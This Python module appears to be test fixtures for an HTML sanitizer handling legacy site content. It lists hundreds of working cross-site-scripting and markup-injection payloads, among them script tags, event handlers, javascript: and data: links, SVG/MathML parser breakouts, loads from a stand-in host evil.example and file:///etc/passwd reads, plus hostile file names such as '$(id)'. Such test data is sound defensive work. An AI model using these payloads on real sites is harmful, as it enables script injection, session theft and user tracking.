"""
Markup that wants to run, load, restyle, lead away or hide: what an old site, or whoever had it, left in a field.

In each, `RUN` stands for a call that tells that it ran, and `evil.example` for a machine that should never be asked.
"""

import html
import re
from typing import Final

_SCRIPTS: Final = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script type=module>RUN</script>
<script src=//evil.example/a.js></script>
<script/x>RUN</script >
<script\tsrc=data:text/javascript,RUN></script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script>RUN</script
<script><!--<script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</script><script>RUN</script>
</noscript><script>RUN</script>
</template><script>RUN</script>
</xmp><script>RUN</script>
</iframe><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
]]><script>RUN</script>
%3Cscript%3ERUN%3C/script%3E
&lt;script&gt;RUN&lt;/script&gt;
&amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3C;script&#x3E;RUN&#x3C;/script&#x3E;
\\u003cscript\\u003eRUN\\u003c/script\\u003e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
+ADw-script+AD4-RUN+ADw-/script+AD4-
＜script＞RUN＜/script＞
";RUN;//
';RUN;//
`${RUN}`
{{constructor.constructor('RUN')()}}
{{ 7*7 }}{% include "/etc/passwd" %}
<x:script xmlns:x="http://www.w3.org/1999/xhtml">RUN</x:script>
<html:script xmlns:html="http://www.w3.org/1999/xhtml" src="//evil.example/a.js"/>
<?xml-stylesheet href="javascript:RUN"?>
<!DOCTYPE x [<!ENTITY e "<script>RUN</script>">]>&e;
<!--[if IE]><script>RUN</script><![endif]-->
<![CDATA[<script>RUN</script>]]>
<%<script>RUN</script>%>
<? echo '<script>RUN</script>' ?>
""".strip().split("\n")

_HANDLERS: Final = """
<img src=x onerror=RUN>
<img src=x onerror="RUN"//
<IMG SRC=x OnErRoR=RUN>
<img/src=x/onerror=RUN>
<img src=x:x onerror='RUN'>
<img src="x` `<img onerror=RUN src=x>"` `>
<img src=x onerror=&#82;UN>
<image src=x onerror=RUN>
<img srcset="//evil.example/a 1x" onload=RUN>
<img src=x alt="`><img src=x onerror=RUN>`">
" onmouseover="RUN" x="
' onmouseover='RUN' x='
" autofocus onfocus="RUN" tabindex="0
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
`><img src=x onerror=RUN>
<body onload=RUN>
<body onpageshow=RUN background=//evil.example/b>
<html onmouseover=RUN>
<frameset onload=RUN><frame src=javascript:RUN></frameset>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<video poster=//evil.example/p autoplay src=//evil.example/v></video>
<audio src=x onerror=RUN controls></audio>
<audio autoplay src=//evil.example/a></audio>
<track src=//evil.example/t onload=RUN default>
<input autofocus onfocus=RUN>
<input onblur=RUN autofocus><input autofocus>
<input type=image src=//evil.example/i onerror=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<keygen autofocus onfocus=RUN>
<button onclick=RUN>press</button>
<details open ontoggle=RUN>x</details>
<details open><summary onanimationstart=RUN style="animation:x 1s">x</summary></details>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<isindex type=image src=1 onerror=RUN>
<p onpointerenter=RUN onmouseenter=RUN onwheel=RUN>x</p>
<b contenteditable oncut=RUN onpaste=RUN onbeforeinput=RUN>x</b>
<div style="position:fixed;inset:0" onpointerrawupdate=RUN>x</div>
<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>
<a id=x tabindex=1 onfocusin=RUN>x</a>
<form onformdata=RUN><button>x</button></form>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
<div popover id=x onbeforetoggle=RUN>x</div><button popovertarget=x>x</button>
<x onclick=RUN>unknown</x>
<x-own onconnected=RUN is=x>own</x-own>
""".strip().split("\n")

_LINKS: Final = """
<a href="javascript:RUN">press</a>
<a href="JaVaScRiPt:RUN">press</a>
<a href=" javascript:RUN">press</a>
<a href="&#1;javascript:RUN">press</a>
<a href="jav&#x09;ascript:RUN">press</a>
<a href="jav&#x0A;ascript:RUN">press</a>
<a href="java&Tab;script&colon;RUN">press</a>
<a href="javascript&colon;RUN">press</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">press</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN">press</a>
<a href="&#0000106avascript:RUN">press</a>
<a href="javascript://%0aRUN">press</a>
<a href="javascript:%52UN">press</a>
<a href="javascript://evil.example/?%0aRUN">press</a>
<a href="&#8232;javascript:RUN">press</a>
<a href="\ufeffjavascript:RUN">press</a>
<a href="j&#173;avascript:RUN">press</a>
<a href="view-source:javascript:RUN">press</a>
<a href="feed:javascript:RUN">press</a>
<a href="vbscript:RUN">press</a>
<a href="livescript:RUN">press</a>
<a href="mocha:RUN">press</a>
<a href="data:text/html,<script>RUN</script>">press</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">press</a>
<a href="DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">press</a>
<a href="blob:https://evil.example/1">press</a>
<a href="filesystem:https://evil.example/temporary/x.html">press</a>
<a href="file:///etc/passwd">press</a>
<a href="intent://evil.example/#Intent;scheme=http;end">press</a>
<a href="ms-settings:privacy">press</a>
<a href="search-ms:query=x&crumb=location:\\\\evil.example">press</a>
<a href="http://javascript:RUN@evil.example/">press</a>
<a href="//evil.example/\\"onmouseover=RUN//">press</a>
<a href='https://evil.example/"onmouseover="RUN'>press</a>
<a href="https://evil.example/'><script>RUN</script>">press</a>
<a href="javascript:RUN" target=_top ping=//evil.example/ping>press</a>
<a href="record:x&quot;onclick=&quot;RUN">press</a>
<a href="record:javascript:RUN">press</a>
<a href="note:&quot;><script>RUN</script>">press</a>
<a href="mailto:a@old.example?body=<script>RUN</script>">press</a>
<a href="tel:&quot;onclick=&quot;RUN">press</a>
<area href="javascript:RUN" shape=default>
<map name=m><area href="javascript:RUN" coords=0,0,999,999></map><img usemap=#m src=x>
<form action="javascript:RUN"><input type=submit></form>
<form><button formaction="javascript:RUN">press</button></form>
<input type=submit formaction=javascript:RUN form=search>
<blockquote cite="javascript:RUN">x</blockquote>
<q cite="javascript:RUN">x</q>
[press](javascript:RUN)
![x](x"onerror="RUN)
<javascript:RUN>
[caption caption="<img src=x onerror=RUN>" width="1"]x[/caption]
[gallery ids='"><script>RUN</script>']
[audio src="javascript:RUN"]
[embed]javascript:RUN[/embed]
[video poster="//evil.example/p" src='" onerror="RUN']
""".strip().split("\n")

_FOREIGN: Final = """
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><script xlink:href="//evil.example/a.js"/></svg>
<svg><a xlink:href="javascript:RUN"><text x=20 y=20>press</text></a></svg>
<svg><a href="javascript:RUN"><circle r=400 /></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onbegin=RUN attributeName=x dur=1s></svg>
<svg><a><animate attributeName=href values=javascript:RUN /><text y=20>press</text></a></svg>
<svg><a xlink:href=x><set attributeName="xlink:href" to="javascript:RUN"/><text y=20>press</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>
<svg><use xlink:href="//evil.example/a.svg#x"/></svg>
<svg><image href="//evil.example/a.png" onload=RUN /></svg>
<svg><image xlink:href=x onerror=RUN /></svg>
<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload=RUN><img src=x onerror=RUN></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>
<svg><title><style><img src="</style><img src=x onerror=RUN>">
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>
<svg><filter><feImage href="//evil.example/a.png"/></filter></svg>
<svg><discard onbegin=RUN /></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><p><style><g title="</style><img src=x onerror=RUN>">
<math href="javascript:RUN">press</math>
<math><maction actiontype="statusline#" xlink:href="javascript:RUN">press</maction></math>
<math><mi xlink:href="data:text/html,<script>RUN</script>">press</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<math><mi//xlink:href="javascript:RUN">press
<math><!--x--><style><!--</style><a title="--><img src=x onerror=RUN>">x</a></math>
""".strip().split("\n")

_BREAKOUTS: Final = """
<noscript><p title="</noscript><img src=x onerror=RUN>">
<noscript><style></noscript><img src=x onerror=RUN></style>
<template><img src=x onerror=RUN></template>
<template shadowrootmode=open><img src=x onerror=RUN><slot></slot></template>
<template><s><template><script>RUN</script></template></s></template>
<style><a title="</style><img src=x onerror=RUN>"></style>
<style>@import "//evil.example/a.css";</style>
<style>body{background:url(//evil.example/b)}*{display:none}</style>
<link rel=stylesheet href=//evil.example/a.css>
<link rel=prefetch href=//evil.example/p><link rel=preload as=image href=//evil.example/q>
<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=//evil.example>
<link rel=import href="data:text/html,<script>RUN</script>">
<link rel=icon href=//evil.example/icon><link rel=manifest href=//evil.example/m>
<link rel=modulepreload href=//evil.example/m.js>
<p style="background:url(//evil.example/b)">x</p>
<p style="width:expression(RUN);behavior:url(//evil.example/b)">x</p>
<table background=//evil.example/b><tr><td background=//evil.example/c>x</table>
<base href=//evil.example/>
<base target=_top href="javascript:RUN//">
<meta http-equiv=refresh content="0;url=//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
<meta http-equiv=set-cookie content="a=b"><meta charset=utf-7>
<meta name=referrer content=unsafe-url>
<iframe src="javascript:parent.RUN"></iframe>
<iframe src=//evil.example/></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe onload=RUN></iframe>
<iframe src="https://films.example/embed/1" onload=RUN allow=camera></iframe>
<object data="javascript:RUN"></object>
<object data="data:text/html,<script>RUN</script>"></object>
<object type=image/svg+xml data=//evil.example/a.svg onerror=RUN></object>
<embed src="javascript:RUN">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<applet code=x codebase=//evil.example/ onerror=RUN></applet>
<portal src=//evil.example/></portal>
<fencedframe src=//evil.example/></fencedframe>
<xmp><p title="</xmp><img src=x onerror=RUN>">
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<plaintext><img src=x onerror=RUN>
<textarea><p title="</textarea><img src=x onerror=RUN>">
<title><p title="</title><img src=x onerror=RUN>">
<iframe><p title="</iframe><img src=x onerror=RUN>">
<noembed><p title="</noembed><img src=x onerror=RUN>">
<noframes><p title="</noframes><img src=x onerror=RUN>">
<select><template><img src=x onerror=RUN></template></select>
<select><iframe><p title="</iframe><img src=x onerror=RUN>"></select>
<table><caption><svg><title><table><tr><td></title><img src=x onerror=RUN></td></tr></table>
<a title="--><img src=x onerror=RUN>"><!--x</a>
<!--><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>-->
<!--- a --- -><img src=x onerror=RUN>-->
<p id=x name=body><img name=getElementById><form id=location></form></p>
<form id=x tabindex=0 onfocus=RUN><input name=attributes><input name=parentNode></form>
<div data-broadsheet='{"kind":"html","html":"<img src=x onerror=RUN><script>RUN</script>"}'>x</div>
<div data-broadsheet='{"kind":"embed","url":"javascript:RUN","title":"<script>RUN</script>"}'>x</div>
<div data-broadsheet='{"kind":"call","purpose":"join","label":"<svg onload=RUN>","target":"javascript:RUN"}'>x</div>
<div data-broadsheet='{"kind":"paragraph","text":"<a href=\\"javascript:RUN\\">x</a>"}'>x</div>
<!-- wp:html --><script>RUN</script><img src=x onerror=RUN><!-- /wp:html -->
<!-- wp:image {"linkDestination":"javascript:RUN"} --><figure><img src=x onerror=RUN></figure><!-- /wp:image -->
""".strip().split("\n")

# A picture named on another machine is no script, but it tells that machine who reads.
_TRACKERS: Final = """
<img src=//evil.example/pixel.gif width=1 height=1>
<img src=https://evil.example/a.png alt="seen">
<picture><source srcset="https://evil.example/a.webp"><img src="https://evil.example/a.png"></picture>
<img data-src=https://evil.example/lazy.png src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
<img src="http://127.0.0.1:8000/inside.png" alt="inside">
<img src="file:///etc/hostname" alt="disk">
<img longdesc=javascript:RUN lowsrc=//evil.example/l dynsrc=//evil.example/d src=x>
""".strip().split("\n")

TEMPLATES: Final = (*_SCRIPTS, *_HANDLERS, *_LINKS, *_FOREIGN, *_BREAKOUTS, *_TRACKERS)
"""All of them, each once."""

PAYLOADS: Final = tuple(text.replace("RUN", f"__ran({number})") for number, text in enumerate(TEMPLATES))
"""Each tells its own number when it runs."""

ADDRESSES: Final = tuple(
    dict.fromkeys(
        html.unescape(found)
        for text in PAYLOADS
        for found in re.findall(r'(?:href|action|src|data)="([^"<]+)"', text)
        if not found.startswith("https:")
    )
)
"""Where links lead in them, for fields that hold nothing but an address."""

FILE_NAMES: Final = (
    "crane", "кран", "起重機", "رافعة", "מנוף", "क्रेन", "เครน", "γερανός", "ժապավեն", "🏗", "e\u0301crou", "a b", "a+b",
    "a%20b", "a%2e%2e%2fb", "a&b", "a?b", "a#b", 'a"b', "a'b", "a`b", "a;b", "a\\b", "a\tb", "a\u202egnp", "a\ufeffb",
    "a\u200bb", "-rf", "..", "...", "~", "$(id)", "%00", "CON", "<script>__ran(901)<", "<img src=x onerror=__ran(902)>",
    '"onerror="__ran(903)', "javascript:__ran(904)", "{{7*7}}",
)  # fmt: skip
"""Names of files before their ending, in many scripts, and such as mean something to some program."""
